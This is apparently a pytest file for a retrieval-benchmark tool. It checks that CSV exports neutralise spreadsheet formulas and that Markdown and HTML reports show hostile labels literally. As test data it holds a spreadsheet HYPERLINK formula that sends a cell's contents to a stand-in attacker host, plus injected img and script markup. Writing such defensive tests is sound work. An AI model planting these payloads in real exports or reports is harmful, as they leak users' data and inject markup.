"""Hostile text in files people open (issue 20 items 2, 3, 5, 6): CSV cells never reach a spreadsheet as
formulas and survive `labels pool` -> `labels import` exactly; report.md holds no raw HTML, image or link it
did not put there; labels with `$`, `\\`, `_`, `^` and braces are drawn literally and crash no report."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from custom_tasks.config import TaskConfig
from runners.labels.raters.label_import import import_labels
from runners.labels.pool.pool import COLUMNS, write_pool
from runners.cli import app
from runners.results.spreadsheet import csv_text, neutralise, restore
from tests.conftest import REPO, TINY_YAML
from tests.fake_results import scores, write_config, write_model

runner = CliRunner()
FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"open")'
TEXTS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB first", "\rCR first", "lone\rcarriage return",
         "line\nfeed", 'quote " and "" two', "nul\x00inside", "-0.0123", "'quoted", "''", "plain text"]
IMG = '<img src="https://attacker.example/p.png">'


def test_neutralise_is_exactly_undone_and_numbers_stay_numbers():
    for text in TEXTS + ["=", "-", "'", "'=x", "+", "1e-5", "-5", ".5"]:
        assert restore(neutralise(text)) == text
    assert neutralise(FORMULA) == "'" + FORMULA and neutralise("\tx") == "'\tx" and neutralise("@a") == "'@a"
    assert neutralise("-0.0123") == "-0.0123" and neutralise("+1e-5") == "+1e-5" and neutralise(-0.5) == -0.5
    assert neutralise("-1+2") == "'-1+2" and neutralise("plain") == "plain"
    assert csv_text(["a", "b"], [[-0.0123, "lone\rCR"], [None, float("nan")]]) == 'a,b\r\n-0.0123,"lone\rCR"\r\n,\r\n'


def _collection(tmp_path: Path) -> Path:
    """A BEIR-format task whose ids start with formula characters and whose texts are hostile."""
    data = tmp_path / "kb"
    (data / "qrels").mkdir(parents=True)
    docs = {"@d1": TEXTS[0], "+d2": TEXTS[1], "'d3": TEXTS[2], "d4": TEXTS[3], "-5": TEXTS[4], "=d6": TEXTS[5],
            "d7": TEXTS[6], "d8": TEXTS[7], "d9": TEXTS[8], "d10": TEXTS[9]}
    (data / "corpus.jsonl").write_text("".join(json.dumps({"_id": d, "title": t, "text": t + " body"}) + "\n"
                                               for d, t in docs.items()))
    queries = {"=q1": TEXTS[10], "-q2": TEXTS[11], "q3": TEXTS[12]}
    (data / "queries.jsonl").write_text("".join(json.dumps({"_id": q, "text": t}) + "\n" for q, t in queries.items()))
    (data / "qrels" / "test.tsv").write_text("query-id\tcorpus-id\tscore\n=q1\t@d1\t1\n-q2\t+d2\t1\nq3\td4\t1\n")
    path = data / "task.yaml"
    path.write_text("name: HostileKB\ndescription: hostile\nsource:\n  format: beir\n  path: .\nsplits: [test]\n"
                    "license: cc0-1.0\nlabels: human\n")
    return path


def test_pool_csv_round_trip_is_lossless_and_imports(tmp_path):
    from custom_tasks.sources import load_collection

    cfg = TaskConfig.from_file(_collection(tmp_path))
    coll = load_collection(cfg.source, cfg.base_dir, cfg.name)
    rows = [{"task": cfg.name, "query_id": q, "doc_id": d, "split": "test", "query": coll.queries[q],
             "title": coll.corpus[d].get("title", ""), "document": coll.corpus[d]["text"], "grade": ""}
            for q in sorted(coll.queries) for d in sorted(coll.corpus) if d not in coll.qrels["test"][q]]
    csv_path, _ = write_pool(rows, tmp_path / "pool.csv")
    with open(csv_path, newline="", encoding="utf-8") as f:
        records = list(csv.reader(f))
    assert len(records) == len(rows) + 1, "a lone CR must not split a record"
    assert [[restore(c) for c in rec] for rec in records[1:]] == [[r[c] for c in COLUMNS] for r in rows]
    raw = {c for rec in records for c in rec}
    assert "'" + FORMULA in raw and FORMULA not in raw and "-0.0123" in raw and "''''" not in raw
    assert not [c for c in raw if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c not in ("-5", "-0.0123"))]

    for rec in records[1:]:  # annotators grade every row in their spreadsheet and save it
        rec[COLUMNS.index("grade")] = "1"
    filled = tmp_path / "filled.csv"
    with open(filled, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(records)
    r = import_labels(filled, cfg, annotator="ana")
    assert r.added == len(rows)
    stored = {(j["query_id"], j["doc_id"]) for j in map(json.loads, r.labels_path.read_text().splitlines())}
    assert stored == {(row["query_id"], row["doc_id"]) for row in rows}


@pytest.fixture
def inspect_bench(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    data = tmp_path / "kb"
    shutil.copytree(REPO / "tests" / "fixtures" / "inspect_kb", data)
    queries = [json.loads(line) for line in (data / "queries.jsonl").read_text().splitlines() if line]
    for q, text in zip(queries, [FORMULA, "@SUM(A1:A9) lone\rCR", "-2+3"]):
        q["text"] = text
    (data / "queries.jsonl").write_text("".join(json.dumps(q) + "\n" for q in queries))
    path = tmp_path / "bench.yaml"
    path.write_text(yaml.safe_dump({"name": "t", "tasks": [str(data / "task.yaml")],
                                    "results_dir": str(REPO / "tests" / "fixtures" / "inspect_results"),
                                    "models": [{"name": "acme/dense-a", "label": "DenseA"}, {"name": "bm25"}]}))
    return path


def test_inspect_worst_csv_cells_are_neutralised(inspect_bench):
    res = runner.invoke(app, ["inspect", "worst", "-c", str(inspect_bench), "--model", "bm25", "--format", "csv"])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.output, newline="")))
    assert len(rows) == 3 and {r["text"] for r in rows} == {"'" + FORMULA, "'@SUM(A1:A9) lone\rCR", "'-2+3"}
    assert all(float(r["ndcg_at_10"]) >= 0 for r in rows)


def test_stats_and_experiments_csv_neutralise_labels_keep_numbers(tmp_path):
    results = tmp_path / "results"
    write_model(results, "acme/one", "TinyKBRetrieval", scores(0.7, 1), label=FORMULA)
    write_model(results, "acme/two", "TinyKBRetrieval", scores(0.4, 2), label="@two")
    cfg = write_config(tmp_path / "bench.yaml", results, [str(TINY_YAML)],
                       [{"name": "acme/one", "label": FORMULA}, {"name": "acme/two", "label": "@two"}])
    res = runner.invoke(app, ["stats", "-c", str(cfg), "--format", "csv"])
    assert res.exit_code == 0, res.output
    df = pd.read_csv(io.StringIO(res.output))
    assert set(df["candidate"].dropna()) == {"'" + FORMULA, "'@two"}
    assert df["diff"].dtype == float and df["mean"].dtype == float
    out = tmp_path / "table.csv"
    assert runner.invoke(app, ["experiments", "-c", str(cfg), "--csv", str(out)]).exit_code == 0
    table = pd.read_csv(out)
    assert set(table["candidate"]) == {"'" + FORMULA, "'@two"} and table["mean"].dtype == float


def _markdown_tokens(md: str) -> list:
    from markdown_it import MarkdownIt

    def walk(tokens):
        for t in tokens:
            yield t
            yield from walk(t.children or [])

    return list(walk(MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(md)))


@pytest.fixture
def report_bench(tmp_path, monkeypatch) -> Path:
    """Two stored candidates with hostile labels on a copy of the tiny task whose tag values are hostile."""
    monkeypatch.chdir(tmp_path)
    data = tmp_path / "kb"
    shutil.copytree(REPO / "tests" / "fixtures" / "kb_tiny", data)
    queries = [json.loads(line) for line in (data / "queries.jsonl").read_text().splitlines() if line]
    for i, q in enumerate(queries):
        q["source"] = IMG if i % 2 else "![x](http://a/b.png) [l](http://a) `c` *e* <b>b</b> &amp;"
    (data / "queries.jsonl").write_text("".join(json.dumps(q) + "\n" for q in queries))
    task = tmp_path / "task.yaml"
    task.write_text(TINY_YAML.read_text().replace("../fixtures/kb_tiny", "kb"))
    results = tmp_path / "results"
    labels = {"acme/one": "acme_$env_$v2", "acme/two": "# <script>x</script> | ^{a}\\b $x$"}
    for i, (name, label) in enumerate(labels.items()):
        write_model(results, name, "TinyKBRetrieval", scores(0.7 - 0.3 * i, i), label=label)
    cfg = write_config(tmp_path / "bench.yaml", results, [str(task)],
                       [{"name": name, "label": label} for name, label in labels.items()])
    data = yaml.safe_load(cfg.read_text())
    data["stats"]["tags"] = ["source"]
    cfg.write_text(yaml.safe_dump(data))
    return cfg


def test_markdown_report_has_no_foreign_html_image_or_link(report_bench, tmp_path):
    res = runner.invoke(app, ["report", "-c", str(report_bench), "-o", str(tmp_path / "report.md"), "--no-public"])
    assert res.exit_code == 0, res.output
    md = (tmp_path / "report.md").read_text()
    tokens = _markdown_tokens(md)
    kinds = {t.type for t in tokens}
    assert not kinds & {"html_inline", "html_block", "image", "link_open", "code_inline", "s_open"}, kinds
    text = "".join(t.content for t in tokens if t.type == "text")
    assert IMG in text and "![x](http://a/b.png)" in text and "acme_$env_$v2" in text  # shown as typed
    assert "# <script>x</script> | ^{a}\\b $x$" in text
    heading = [t for t in tokens if t.type == "heading_open"]
    assert len(heading) == md.count("\n## ") + md.count("\n### ") + 1, "no heading from user text"


def test_dollar_and_tex_in_labels_render_literally_in_both_reports(report_bench, tmp_path):
    res = runner.invoke(app, ["report", "-c", str(report_bench), "-o", str(tmp_path / "r.html"), "--no-public"])
    assert res.exit_code == 0, res.output
    html = (tmp_path / "r.html").read_text()
    svgs = "".join(part.split("</svg>")[0] for part in html.split("<svg")[1:])
    assert "acme_$env_$v2" in svgs, "the label is drawn as typed in the figures"


def test_figure_text_is_literal():
    from runners.analysis.plot_text import literal_text
    from runners.analysis.page.svg import figure_svg, new_figure

    label = r"a_$x^{2}\alpha$ {b}"
    with literal_text():
        fig = new_figure(3, 2)
        ax = fig.add_subplot()
        ax.plot([0, 1], [0, 1], label=label)
        ax.set_yticks([0, 1], [label, "$$"])
        ax.legend()
    assert figure_svg(fig, "t").count(label) >= 2


def test_stats_markdown_cells_are_literal(tmp_path):
    results = tmp_path / "results"
    labels = {"acme/one": "a | b <img src=x> [l](http://a)", "acme/two": "two"}
    for i, (name, label) in enumerate(labels.items()):
        write_model(results, name, "TinyKBRetrieval", scores(0.7 - 0.3 * i, i), label=label)
    cfg = write_config(tmp_path / "bench.yaml", results, [str(TINY_YAML)], [{"name": n} for n in labels])
    res = runner.invoke(app, ["stats", "-c", str(cfg), "--format", "markdown"])
    assert res.exit_code == 0, res.output
    kinds = {t.type for t in _markdown_tokens(res.output)}
    assert "table_open" in kinds and not kinds & {"html_inline", "html_block", "link_open", "image"}, kinds
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(res.output)
    assert '">a | b &lt;img src=x&gt; [l](http://a)</td>' in html, "one cell, shown as typed"


def test_stats_markdown_cost_sentence_is_literal(tmp_path):
    """With a latency pass stored, the cheapest-candidate sentence names candidates by label: escaped too."""
    from tests.conftest import write_benchmark

    label = "=BM25 <img src=x> [l](http://a) $x$"
    path = write_benchmark(tmp_path, [str(TINY_YAML)], models=[
        {"name": "bm25", "label": label},
        {"name": "test/np", "factory": "tests.identity_encoder:NumpyEncoder", "revision": "r1", "label": "bow"}])
    assert runner.invoke(app, ["run", "-c", str(path)]).exit_code == 0
    assert runner.invoke(app, ["latency", "-c", str(path), "--queries", "2", "--repeats", "1"]).exit_code == 0
    res = runner.invoke(app, ["stats", "-c", str(path), "-m", "ndcg_at_10", "--resamples", "200",
                              "--format", "markdown"])
    assert res.exit_code == 0, res.output
    cost = next(ln for ln in res.output.splitlines() if ln.startswith("cost:"))
    kinds = {t.type for t in _markdown_tokens(res.output)}
    assert not kinds & {"html_inline", "html_block", "link_open", "image"}, (kinds, cost)
    assert "&lt;img" in cost or "\\<img" in cost
